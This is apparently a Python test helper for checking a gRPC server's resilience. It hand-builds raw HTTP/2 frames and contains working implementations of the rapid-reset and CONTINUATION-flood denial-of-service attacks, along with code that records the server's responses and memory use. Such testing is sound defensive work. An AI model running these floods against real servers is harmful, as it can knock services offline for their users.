"""Raw HTTP/2 attackers for the abuse tests: frames built by hand (hyperframe parses what comes back, hpack
encodes the header blocks) and written on a plain socket as fast as it takes them, with a reader thread that
records how the server reacts.

h2's state machine would refuse to send what these do (a stream reset before the server saw it, a header
block that never ends), and would be too slow to send it at the rate an attacker does.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import hpack
from hyperframe.frame import (
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
               11: "ENHANCE_YOUR_CALM"}  # fmt: skip


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame: a 24-bit length, type, flags, a 31-bit stream id, then the payload."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(authority: str, path: str) -> bytes:
    """The HPACK block of a gRPC request that leaves the decoder's dynamic table as it was (static table and
    never-indexed literals only), so that the same bytes open any number of streams."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority)]
    headers += [("content-type", "application/grpc"), ("te", "trailers")]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])


def grpc_message(body: bytes) -> bytes:
    return b"\x00" + len(body).to_bytes(4, "big") + body


@dataclass
class Reaction:
    """What the server sent back on one connection."""

    frames: Counter[str] = field(default_factory=Counter)
    goaway: tuple[str, int, bytes] | None = None  # error code, last stream id, debug data
    closed: bool = False  # the server closed the connection (before the client did)
    resets: dict[int, str] = field(default_factory=dict)  # stream -> the server's RST_STREAM code
    statuses: dict[int, str] = field(default_factory=dict)  # stream -> "grpc-status grpc-message"
    highest_answered: int = 0  # the highest stream id the server sent a frame on
    connection_window: int = 65535  # what the server lets this client send in DATA, by its WINDOW_UPDATEs

    def answered(self, stream: int) -> bool:
        """Whether the server ended the stream: with a gRPC status, or with RST_STREAM."""
        return stream in self.statuses or stream in self.resets

    def summary(self) -> str:
        goaway = self.goaway and (self.goaway[0], self.goaway[1], self.goaway[2][:80])
        statuses = dict(Counter(status[:90] for status in self.statuses.values()))
        resets = dict(Counter(self.resets.values()))
        return (
            f"frames {dict(self.frames)}, GOAWAY {goaway}, RST_STREAM {resets}, statuses {statuses}, "
            f"closed {self.closed}, highest stream answered {self.highest_answered}"
        )


class RawConnection:
    """A client connection that writes prebuilt frames. A thread reads and parses what comes back, and answers
    SETTINGS and PINGs as a well-behaved client would, so that only the abuse itself can be punished."""

    def __init__(self, host: str, port: int, write_timeout_s: float = 10.0) -> None:
        self.sock = socket.create_connection((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.settimeout(write_timeout_s)  # a write that makes no progress this long: the server stalled
        self.stalled = False
        self.bytes_written = 0
        self.answering = True  # off while a header block is open: no other frame may come between its pieces
        self.reaction = Reaction()
        self._window = threading.Condition()
        self._write_lock = threading.Lock()
        self._settled = threading.Event()  # the server's SETTINGS came, and it acknowledged ours
        self._acked = self._received = self._closing = False
        self._decoder = hpack.Decoder()
        self.write(PREFACE + frame(SETTINGS, 0, 0, b""))
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def write(self, data: bytes) -> bool:
        """Write all of data; False once the server has closed the connection or stopped reading it.
        bytes_written counts what the kernel took, a failed write's first part too: a server that closes
        the connection halfway through a large write still saw that part sent."""
        with self._write_lock:
            rest = memoryview(data)
            try:
                while rest:
                    sent = self.sock.send(rest)  # raises after the socket's timeout without progress
                    self.bytes_written += sent
                    rest = rest[sent:]
            except TimeoutError:
                self.stalled = True
                return False
            except OSError:
                return False
            return True

    def handshake(self, timeout_s: float = 10.0) -> bool:
        """Wait until both sides' SETTINGS are exchanged and acknowledged."""
        return self._settled.wait(timeout_s)

    def take_window(self, size: int, timeout_s: float = 5.0) -> bool:
        """Wait until the server's connection receive window admits size bytes of DATA, and take them."""
        with self._window:
            ok = self._window.wait_for(
                lambda: self.reaction.connection_window >= size or self.reaction.closed, timeout_s
            )
            self.reaction.connection_window -= size
            return ok and not self.reaction.closed

    def close(self) -> None:
        self._closing = True
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()
        self._reader.join(5)

    def _read(self) -> None:
        buffer = b""
        while True:
            try:
                data = self.sock.recv(1 << 20)
            except TimeoutError:
                continue
            except OSError:
                data = b""
            if not data:
                with self._window:
                    self.reaction.closed = not self._closing
                    self._window.notify_all()
                return
            buffer, consumed = buffer + data, 0
            for parsed, end in whole_frames(buffer):
                self._react(parsed)
                consumed = end
            buffer = buffer[consumed:]

    def _react(self, parsed: Frame) -> None:
        reaction = self.reaction
        reaction.frames[type(parsed).__name__.removesuffix("Frame")] += 1
        reaction.highest_answered = max(reaction.highest_answered, parsed.stream_id)
        if isinstance(parsed, SettingsFrame):
            if "ACK" in parsed.flags:
                self._acked = True
            else:
                self._received = True
                self.write(frame(SETTINGS, ACK, 0, b""))
            if self._acked and self._received:
                self._settled.set()
        elif isinstance(parsed, PingFrame) and "ACK" not in parsed.flags and self.answering:
            self.write(frame(PING, ACK, 0, parsed.opaque_data))
        elif isinstance(parsed, WindowUpdateFrame) and parsed.stream_id == 0:
            with self._window:
                reaction.connection_window += parsed.window_increment
                self._window.notify_all()
        elif isinstance(parsed, GoAwayFrame):
            code = ERROR_NAMES.get(parsed.error_code, str(parsed.error_code))
            reaction.goaway = (code, parsed.last_stream_id, bytes(parsed.additional_data))
        elif isinstance(parsed, HeadersFrame):  # a gRPC server's headers are small: no CONTINUATION
            headers = dict(self._decoder.decode(parsed.data, raw=False))
            if "grpc-status" in headers:
                status = f"{headers['grpc-status']} {headers.get('grpc-message', '')}"
                reaction.statuses[parsed.stream_id] = status
        elif isinstance(parsed, RstStreamFrame):
            reaction.resets[parsed.stream_id] = ERROR_NAMES.get(parsed.error_code, str(parsed.error_code))


def whole_frames(buffer: bytes) -> Iterator[tuple[Frame, int]]:
    """The whole frames at the start of buffer, each with the offset where it ends."""
    view, at = memoryview(buffer), 0
    while len(view) - at >= 9:
        end = at + 9 + int.from_bytes(view[at : at + 3], "big")
        if end > len(view):
            return
        parsed, _ = Frame.parse_frame_header(view[at : at + 9])
        parsed.parse_body(view[at + 9 : end])
        yield parsed, end
        at = end


def rapid_reset(
    conn: RawConnection, block: bytes, message: bytes, seconds: float, *, lag: bool = False, batch: int = 200
) -> int:
    """Open streams (HEADERS, then a DATA frame with the whole request) and reset each (RST_STREAM CANCEL)
    in the same write, or with lag in the next one, so that the server may start some; batch streams a
    write, for seconds or until the server closes. Returns how many streams were written whole."""
    sent, stream, pending = 0, 1, b""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and stream + 2 * batch < 2**31:
        if not conn.take_window(len(message) * batch):
            break
        ids = range(stream, stream + 2 * batch, 2)
        opens = b"".join(
            frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, message) for s in ids
        )
        resets = b"".join(frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL)) for s in ids)
        if not conn.write(opens + pending if lag else opens + resets):
            break
        sent, stream, pending = sent + batch, stream + 2 * batch, resets if lag else b""
    conn.write(pending)
    return sent


def continuation_flood(conn: RawConnection, block: bytes, fragment: bytes, total_bytes: int) -> int:
    """HEADERS without END_HEADERS on stream 1, then CONTINUATION frames of fragment, none with END_HEADERS,
    until total_bytes are written or the server closes or stops reading; returns the whole CONTINUATION
    frames the kernel took. Nothing else is sent meanwhile: the attacker's own block is whole and in order."""
    assert conn.handshake(), "the server's SETTINGS never came"
    conn.answering = False
    if not conn.write(frame(HEADERS, 0, 1, block)):
        return 0
    one = frame(CONTINUATION, 0, 1, fragment)
    chunk = one * max(1, (1 << 20) // len(one))  # about a MiB a write
    start = conn.bytes_written
    while conn.bytes_written - start < total_bytes and conn.write(chunk):
        pass
    return (conn.bytes_written - start) // len(one)


def rss_mib(pid: int) -> float:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(next(line.split()[1] for line in status.splitlines() if line.startswith("VmRSS:"))) / 1024


@contextlib.contextmanager
def peak_rss(pid: int, interval_s: float = 0.05) -> Iterator[list[float]]:
    """The highest VmRSS of process pid (MiB) while the block runs, sampled in a thread: list[0]."""
    peak, done = [rss_mib(pid)], threading.Event()

    def sample() -> None:
        while not done.wait(interval_s):
            peak[0] = max(peak[0], rss_mib(pid))

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        yield peak
    finally:
        done.set()
        sampler.join()
        peak[0] = max(peak[0], rss_mib(pid))
